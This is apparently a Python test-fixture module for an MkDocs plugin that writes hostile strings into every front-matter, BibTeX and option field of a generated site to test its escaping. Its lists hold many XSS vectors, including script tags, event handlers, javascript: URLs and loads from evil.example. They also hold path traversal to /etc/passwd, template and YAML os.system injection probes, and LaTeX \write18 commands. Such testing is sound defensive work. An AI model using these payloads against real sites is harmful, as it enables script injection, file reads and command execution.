r"""Texts that try to be more than text, and sites with them wherever an author, a database or an option has a text.

The fields come from the declared tables, so that a new one is covered by itself. A payload that runs calls ``alert`` or
sets ``window.__pwned``; ``evil.example`` stands for what it would load.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

import yaml
from pydantic import ValidationError

from mkdocs_briefs.model.addresses import ACTORS, AUTHORS, COUNTRIES, PROFILE_FOLDERS, REGIONS
from mkdocs_briefs.model.characters import one_line
from mkdocs_briefs.model.field_types import Fields
from mkdocs_briefs.model.front_matter import BriefFields, ProfileFields
from mkdocs_briefs.model.kinds import ActorKind
from mkdocs_briefs.readers.fields import HOST_KEYS
from mkdocs_briefs.sources.bibtex.fields import ADDRESSES, ALIASES, DATES, NAMES, OTHER_DATES, SHOWN
from site_tests.mini_site import brief
from site_tests.sources.test_exports import ENTRY_TYPES

_RUN = "window.__pwned=1;alert(1)"

MARKUP = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<script/x>{_RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror\n=\n{_RUN}>",
    f"<img src=x onerror={_RUN}//",
    f'<img """><script>{_RUN}</script>">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<xss tabindex=1 autofocus onfocus={_RUN}>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<textarea></textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</a></p></li></ul></div><img src=x onerror={_RUN}>",
    "</article></main></body></html>",
    "<table><tr><td>x",
    "<!--",
    "-->",
    "--!>",
    "<!-->",
    f"<!--><script>{_RUN}</script>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    "]]>",
    "<!DOCTYPE html>",
    "<?xml version='1.0'?>",
    "<?php echo 1 ?>",
    "<",
    ">",
    "a<b>c",
    "<b>bold</b>",
    "<plaintext>",
    "<xmp>",
    "<p",
    "</",
    "<a",
    '<a href="',
    "<a href='",
    "<div class=brief-body id=cite-text>",
    "<style>*{display:none}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x)">',
]
ATTRIBUTES = [
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'" autofocus onfocus="{_RUN}" x="',
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'"/><img src=x onerror={_RUN}>',
    f"` onmouseover={_RUN} `",
    f" onmouseover={_RUN} ",
    '" style="position:fixed;inset:0',
    '" href="//evil.example/',
    '">',
    "'>",
    '"',
    "'",
    "`",
    "=",
    '" id="__config',
    '\\" onmouseover=\\"alert(1)',
    "&quot; onmouseover=&quot;alert(1)",
]
ENTITIES = [
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"&ltimg src=x onerror={_RUN}&gt",
    "&",
    "&amp;",
    "&#0;",
    "&#x1F4A9;",
    "&nosuch;",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
]
ADDRESSED = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"java&#10;script:{_RUN}",
    f"javascript://x.example/%0a{_RUN}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x",
    'https://evil.example/" onclick="alert(1)',
    "https://a.example/<img src=x onerror=alert(1)>",
    "https://a.example/'onclick='alert(1)",
    "https://user:password@evil.example/",
    "../../../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "file:///etc/passwd",
    "?x=1&y=2#z",
    "#",
    "%",
    "%00",
    "%2e%2e%2f",
    "C:\\Windows\\win.ini",
    "mailto:a@b.example?subject=x",
]
MARKDOWN = [
    f"[x](javascript:{_RUN})",
    f"![x](x){{onerror={_RUN}}}",
    f"[x]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    f"x{{: onclick={_RUN} }}",
    f"[x](<javascript:{_RUN}>)",
    f'[x](x "\\" onclick=\\"{_RUN}")',
    "# Heading",
    "## Heading {#cite-text}",
    "- item",
    "1. item",
    "> quote",
    "```\ncode\n```",
    "`code`",
    "**bold**",
    "*em",
    "_em_",
    "~~~",
    "---",
    "***",
    "| a | b |\n|---|---|\n| c | d |",
    "[^1]",
    "[^1]: note",
    "[@ash2001]",
    "@ash2001",
    "[[Norway]]",
    "[[x|y]]",
    "![x](//evil.example/x.png)",
    "!!! note",
    "*[HTML]: x",
    "\\*",
    "Norway\n\n# x",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{{ config }}",
    "{% raw %}",
    "{% include 'x' %}",
    "{# x #}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{title}",
    "%s",
    "%(x)s",
    "!!python/object/apply:os.system ['true']",
    "!ENV HOME",
    "$HOME",
    "$(true)",
    "`true`",
    "; true",
]
RECORDS = [
    "A\nER  - \nTY  - JOUR\nTI  - B",
    "A\r\nER  - \r\n",
    "ER  - ",
    "TY  - ",
    "A}\n}\n@book{forged, title = {B",
    "A}, file = {/etc/passwd",
    '", "forged": "',
    '"}',
    "[]",
    "{",
    "}",
    "{{{",
    "}}}",
    "},",
    "@",
    "@comment{",
    "@string{x = {y}}",
    "# x",
    "x # y",
    "null",
    "true",
    "~",
    "no",
    "0x1F",
    "1e3",
    "2026-01-02",
    "key: value",
    "- x",
    "a: b: c",
    "'",
    "|",
    ">",
    "*x",
    "&x",
    "%x",
    "...",
    "\t",
    "a,b;c",
    "=1+1",
    "+1",
    "-1",
]
COMMANDS = [
    "\\",
    "\\\\",
    "\\input{/etc/passwd}",
    "\\write18{true}",
    "\\end{document}",
    "\\href{javascript:alert(1)}{x}",
    "\\url{javascript:alert(1)}",
    "\\emph{x}",
    "\\textbf{<b>x</b>}",
    "\\verb|<b>|",
    "\\def\\x{y}",
    "\\csname x\\endcsname",
    "$x_1^2$",
    "$<b>$",
    "$$",
    "\\$",
    "\\&",
    "\\%",
    "\\_",
    "\\'e",
    '\\"{o}',
    "{\\ss}",
    "\\char60 script\\char62",
    "\\textless script\\textgreater",
    "^^3cscript^^3e",
    "--",
    "``x''",
    "~x~",
    "A % B",
    "\\begin{html}<script>alert(1)</script>\\end{html}",
]
CHARACTERS = [
    "A\x00B",
    "A\x1b[2JB",
    "A\x08B",
    "A\x7fB",
    "A\x85B",
    "A\x9bB",
    "A\u2028B",
    "A\u2029B",
    "A\u00a0B",
    "A\u200bB",
    "A\ufeffB",
    "A\ufffdB",
    "A\ufffeB",
    "\u202eevil",
    "\u2066evil",
    "\u2069evil",
    "\u200fevil",
    "\u061cevil",
    "\u05e9\u05dc\u05d5\u05dd (1)",
    "\u0645\u0631\u062d\u0628\u0627 <b>",
    "\U0001f4a9",
    "\U0001f468\u200d\U0001f469",
    "e\u0301" * 3,
    "a" + "\u0301" * 50,
    "\u0130stanbul",
    "\u1e9e",
    "\ufb01n",
    "\ue000x\ue003",
    "\U000e0041",
    "\x02x\x03",
    "\x02klzzwxh:0000\x03",
    "klzzwxh:0",
    "wzxhzdk:0",
    "STXqzxjETX",
    "\u4e2d\u6587",
    "\u0430\u0440\u0440le",
    "x" * 500,
    "word " * 150,
    "<" * 200,
]
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [*MARKUP, *ATTRIBUTES, *ENTITIES, *ADDRESSED, *MARKDOWN, *TEMPLATES, *RECORDS, *COMMANDS, *CHARACTERS]
    )
)

HARMLESS = "Some plain words"
"""What a payload site is compared with: nothing but the texts differs."""

BIBTEX_FIELDS = sorted(
    {*SHOWN, *NAMES, *ADDRESSES, *DATES, *OTHER_DATES, *ALIASES, "abstract", "keywords", "annotation"}
)
CODES = "AD AE AF AG AI AL AM AO AR AT AU AZ BA BB BD BE BF BG BH BI BJ BN BO BR BS BT BW BY BZ CA".split()


_SOUND_PARTS: dict[str, dict[str, Any]] = {
    "key_judgements": {
        "text": "T",
        "likelihood": "likely",
        "outcome": "no",
        "resolved": "2026-01-02",
        "note": "N",
    },
    "at_a_glance": {"new": "N"},
    "corrections": {"date": "2026-01-02", "text": "T"},
    "versions": {"version": "1", "date": "2026-01-02"},
}
"""Of each field that is a mapping or a list of such, one that is right."""


def _usable(fields: type[Fields], sound: Mapping[str, Any], text: str) -> dict[str, Any]:
    """Front matter in which each field has the text that may have it."""
    front = dict(sound)
    for field, keys in fields.names().items():
        if part := fields.part_of(field):
            inside = _usable(part, _SOUND_PARTS[field], text)
            front[keys[0]] = inside if field == "at_a_glance" else [inside]
            continue
        for value in ([text], text):
            try:
                checked = fields.model_validate({**sound, keys[0]: value})
            except ValidationError:
                continue
            if getattr(checked, field) is not False:  # "surname: false" is no text
                front[keys[0]] = value
                break
    return front


def page(front: Mapping[str, Any], body: str = "Text.") -> str:
    """A page with this front matter."""
    return f"---\n{yaml.safe_dump(dict(front), sort_keys=False)}---\n{body}\n"


def file_name(text: str) -> str:
    """The text as far as a file can have it as its name."""
    return re.sub(r"[/\x00-\x1f\ud800-\udfff]", "", text).encode()[:120].decode(errors="ignore").strip(" .") or "x"


def in_code(text: str) -> str:
    return f"`` {text.replace('`', '').replace(chr(10), ' ')} ``"


def in_braces(text: str) -> str:
    """The text as a value of BibTeX; what would end the value is left out."""
    depth, kept = 0, ""
    for char in re.sub(r"\\(?=[{}]|$)", "", text):
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth < 0:
            depth = 0
        else:
            kept += char
    return kept + "}" * depth


def entry(number: int, text: str, entry_type: str) -> str:
    """An entry with the text in every field; names and dates as well."""
    value = in_braces(text)
    values = dict.fromkeys(BIBTEX_FIELDS, value) | {"author": f"{value} and {{{value}}} and Ash, {value}"}
    fields = "".join(f"  {field} = {{{text}}},\n" for field, text in values.items())
    return f"@{entry_type}{{k{number},\n{fields}}}\n"


def _of(number: int, text: str) -> Iterator[tuple[str, str]]:
    """The files that have one payload."""
    names = {folder: f"{text} {folder[0]}{number}" for folder in PROFILE_FOLDERS}
    code = CODES[number % len(CODES)]
    types = [ENTRY_TYPES[(number + step) % len(ENTRY_TYPES)] for step in (0, 13)]
    yield f"bib/p{number}.bib", "".join(entry(number * 2 + half, text, kind) for half, kind in enumerate(types))
    yield f"bib/{file_name(text)} {number}.bib", f"@book{{{text}{number}, title = {{Keyed}}}}\n"
    raw = f'@book{{raw{number}, title = {{{text}}}}}\n@book{{s{number}, title = "{text}"}}\n'
    yield f"bib/raw{number}.bib", raw
    keys = [f"k{number * 2}", f"k{number * 2 + 1}", f"{text}{number}", f"raw{number}", f"s{number}"]

    sound = {"title": "T", "date": "2026-01-02", "author": names[AUTHORS], "region": [names[REGIONS], code]}
    front = _usable(BriefFields, sound, text) | sound
    front |= {"title": f"{text} t{number}", "actors": [names[ACTORS], f"{text} declared{number}"], "based_on": keys}
    body = (
        f"Aliases {number} met {in_code(text)} in Norway, so it is told [@k{number * 2}, {in_code(text)}].\n\n"
        f"## A heading {in_code(text)}\n\nJane Doe {number} left. As @k{number * 2 + 1} says.\n"
    )
    yield f"docs/b{number}.md", page(front, body)
    yield f"docs/{file_name(text)} {number}/{file_name(text)}.md", page({**sound, "title": text, "tags": text}, body)
    yield f"docs/n{number}/{file_name(text)}.md", "An ordinary page named so.\n"
    yield f"docs/o{number}.md", page({"title": text, "kind": "page", "tags": [text]}, "An ordinary page.")
    yield f"docs/d{number}.md", page({**front, "status": "draft"})

    kinds = [kind.value for kind in ActorKind]
    named = {**names, COUNTRIES: code}
    for folder in PROFILE_FOLDERS:
        profile = {"name": named[folder]} | ({"members": ["Norway"]} if folder == REGIONS else {})
        more = {"kind": kinds[number % len(kinds)]} if folder == ACTORS else {}
        full = _usable(ProfileFields, profile, text)
        full |= {key: [f"{folder[0]}{text}{number}", f"{key} {number}"] for key in ("aliases", "weak_aliases")}
        here = {field for field in ProfileFields.model_fields if folder in ProfileFields.folders_of(field)}
        full = {key: value for key, value in full.items() if key in here} | profile | more
        yield f"docs/{folder}/p{number}.md", page(full, in_code(text))


def everywhere(payloads: Sequence[str]) -> dict[str, str]:
    """The files of a site in which each field that may have a payload has it."""
    files = {"docs/index.md": "# Home\n", "docs/sound.md": brief("Norway. [@sound]", title="Sound")}
    files["bib/sound.bib"] = "@book{sound, title = {\\emph{Sound} and \\textbf{other} \\textsc{kinds}$^2_3$}}\n"
    for number, text in enumerate(payloads):
        files |= _of(number, text)
    return files


MARKDOWN_KEYS = {"status_note"}
"""Fields of one text that is Markdown, as the nested ones are, which have a test of their own."""


def one_at_a_time(payloads: Sequence[str]) -> dict[str, str]:
    """The files of a site in which one field of each page is a payload, or one key, whether it may or not."""
    files = {"docs/index.md": "# Home\n"}
    sound = {"title": "T", "date": "2026-01-02", "author": "A", "region": "Norway"}
    for number, text in enumerate(payloads):
        for key in (*sorted((BriefFields.keys() | HOST_KEYS) - MARKDOWN_KEYS), text):
            rest = {other: value for other, value in sound.items() if key not in (other, f"{other}s")}
            for form, value in (("text", text), ("list", [text, {text: text}])):
                files[f"docs/{number}/{form}-{file_name(key)}.md"] = page({**rest, key: value})
                files[f"docs/pages/{number}/{form}-{file_name(key)}.md"] = page({key: value, "kind": "page"})
        for folder in PROFILE_FOLDERS:
            for key in sorted(ProfileFields.keys()):
                files[f"docs/{folder}/{key}{number}.md"] = page({"name": f"{folder} {key} {number}", key: text})
    return files


def options_of(payloads: Iterable[str]) -> dict[str, Any]:
    """Options with all of these payloads: what the house calls territories, and keys of other tools."""
    territories = {
        code: {
            "name": f"{text} {code}",
            "official": f"{text} of {code}",
            "aliases": [f"{code} {text}"],
            "demonyms": [f"{text} {code}n"],
        }
        for code, text in zip(reversed(CODES), payloads, strict=False)
        if one_line(text)
    }
    return {"territories": territories, "extra_keys": list(payloads), "link_demonyms": True, "export_abstracts": True}
